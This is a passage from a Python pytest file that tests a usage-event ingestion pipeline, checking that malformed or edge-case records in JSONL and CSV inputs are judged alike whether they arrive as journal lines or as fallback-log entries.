    result = ingest_lines(settings, "broken.csv", [line.replace(b"NOT-UTF-8", b"u\xff\xfe") for line in lines])
    assert set(stored_events(settings)) == {"before", "after"}
    assert [("broken" in raw, "two" in raw) for raw in kept_raws(settings)] == [(True, True)]
    assert (result.read, result.failed) == (3, 1)


def judged_both_ways(settings, record_text: str) -> tuple[dict | None, dict | None]:
    """Ingest one record as a journal line and inside a fallback-log entry; return the two stored rows."""
    direct = record_text.replace('"EVENT"', '"direct"', 1)
    rescued = record_text.replace('"EVENT"', '"rescued"', 1)
    entry = f'{{"timestamp": "{NOW.isoformat()}", "error": "disk full", "event": {rescued}}}'
    ingest_lines(settings, "journal-like.jsonl", [json.dumps(good(f"clean-{n}")) for n in range(3)] + [direct])
    ingest_lines(settings, "fallback-like.jsonl", [entry])
    events = stored_events(settings)
    return events.get("direct"), events.get("rescued")


RECORD = json.dumps(good("EVENT"))
NOT_CHECKED_HERE = {"event_id", "event_key", "source", "ingested_at"}  # the key is a hash of the event_id


# bulk.py's promise: its clean test accepts only what UsageEvent accepts unchanged, so both paths agree.
@pytest.mark.parametrize("record_text", [
    pytest.param(json.dumps(good("EVENT", status=None, input_tokens=None, metadata=None)), id="nulls"),
    pytest.param(json.dumps(good("EVENT", ts=good("x")["ts"].replace("T", " "))), id="a space for T"),
    pytest.param(RECORD.replace('"input_tokens": 100', '"input_tokens": 1e2'), id="tokens as 1e2"),
    pytest.param(json.dumps(good("EVENT", input_tokens=100.0)), id="tokens as 100.0"),
    pytest.param(RECORD[:-1] + ', "latency_ms": 1e-400}', id="latency underflowing to 0"),
    pytest.param(RECORD[:-1] + ', "latency_ms": 1e400}', id="latency overflowing to infinity"),
    pytest.param(json.dumps(good("EVENT", user_id="é" * 300)), id="500 bytes of multibyte user_id"),
    pytest.param(json.dumps(good("EVENT", ts="2026-11-20T10:00:00+99:00")), id="offset +99:00"),
    pytest.param(json.dumps(good("EVENT", ts="2026-11-20T10:00:00+24:00")), id="offset +24:00"),
    pytest.param(json.dumps(good("EVENT", ts="2026-11-20T24:00:00Z")), id="hour 24"),
    pytest.param(json.dumps(good("EVENT", metadata={" a ": 1, "a": 2})), id="padded metadata keys"),
    pytest.param(RECORD[:-1] + ', "user_id": "last"}', id="a duplicated key"),
])
def test_a_record_is_judged_alike_in_a_journal_line_and_in_a_fallback_entry(settings, record_text):
    direct, rescued = judged_both_ways(settings, record_text)
    assert (direct is None) == (rescued is None), f"stored as a line: {direct}; stored from the fallback: {rescued}"
    if direct is not None:
        assert {k: (v, rescued[k]) for k, v in direct.items() if k not in NOT_CHECKED_HERE and v != rescued[k]} == {}


def test_two_csv_files_with_the_same_header_are_both_stored_in_full(settings):
    header = "ts,user_id,tenant_id,use_case,provider,model,input_tokens,output_tokens"
    ts = good("x")["ts"]
    for day, users in (("monday", ("alice", "bob")), ("tuesday", ("carol", "dave"))):
        rows = [f"{ts},{user},t1,chat_tutor,openai,gpt-4o,1000,100" for user in users]
        (settings.inbox_dir / f"{day}.csv").write_text("\n".join([header, *rows, f"{day},not,a,valid,row"]) + "\n")
    result = ingest(settings)
    users = sorted(r["user_id"] for r in stored_events(settings).values())
    assert users == ["alice", "bob", "carol", "dave"], f"{result.summary()}: stored {users}"
    assert len(kept_raws(settings)) == 2


def test_a_boolean_token_count_is_kept_as_failed(settings):
    ingest_lines(settings, "bool.jsonl", [json.dumps(good("bool", input_tokens=True)), json.dumps(good("after"))])
    assert set(stored_events(settings)) == {"after"}
    assert any('"bool"' in raw for raw in kept_raws(settings))
